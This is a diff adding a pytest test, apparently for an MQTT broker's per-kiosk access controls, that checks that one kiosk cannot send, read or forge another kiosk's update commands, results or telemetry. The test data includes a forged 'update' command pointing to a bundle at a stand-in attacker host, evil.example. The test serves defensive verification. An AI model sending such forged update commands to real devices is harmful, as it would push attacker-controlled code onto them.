@@ -252,6 +252,31 @@ def test_kiosk_in_the_hubs_share_group_takes_no_message_from_the_hub(clients) ->
     assert len(hub.received(2.0, count=10)) == 10
 
 
+def test_kiosk_can_neither_order_nor_read_nor_answer_another_kiosks_updates(clients) -> None:
+    """An `update` command is code to install: k2 may not send one to k1, read k1's (the
+    bundle's URL, a signed command to replay), or forge k1's result or the telemetry that
+    carries its `last_update`. Each refusal is the broker's PUBACK/SUBACK 0x87; that
+    nothing got through is shown by a genuine message, sent after the refusals, arriving
+    first (one subscriber's messages come in the order the broker took them)."""
+    update = b'{"cmd": "update", "cmd_id": "evil-1", "bundle_url": "https://evil.example/k.tar.gz", '
+    update += b'"sha256": "' + b"a" * 64 + b'"}'
+    result = b'{"cmd_id": "evil-1", "ok": true, "detail": {"update": "started"}}'
+    hub = clients("hub", "hub-1")
+    for leaf in ("cmd/result", "telemetry"):
+        assert not hub.subscribe(topic("k1", leaf)).is_failure
+    k1 = clients("k1")
+    assert not k1.subscribe(topic("k1", "cmd")).is_failure
+    k2 = clients("k2")
+    assert k2.subscribe(topic("k1", "cmd")).value == 0x87
+    assert k2.publish(topic("k1", "cmd"), update).value == 0x87
+    assert k2.publish(topic("k1", "cmd/result"), result).value == 0x87
+    assert k2.publish(topic("k1", "telemetry"), b'{"last_update": {"result": "ok"}}').value == 0x87
+    assert hub.publish(topic("k1", "cmd"), b"genuine").value == 0
+    assert k1.received(2.0, count=1) == [(topic("k1", "cmd"), b"genuine")]
+    assert k1.publish(topic("k1", "cmd/result"), b"genuine").value == 0
+    assert hub.received(2.0, count=1) == [(topic("k1", "cmd/result"), b"genuine")]
+
+
 @pytest.mark.parametrize("leaf", ["ack", "resp", "cmd"])
 def test_kiosk_cannot_write_its_own_answers(clients, leaf: str) -> None:
     k1 = clients("k1")
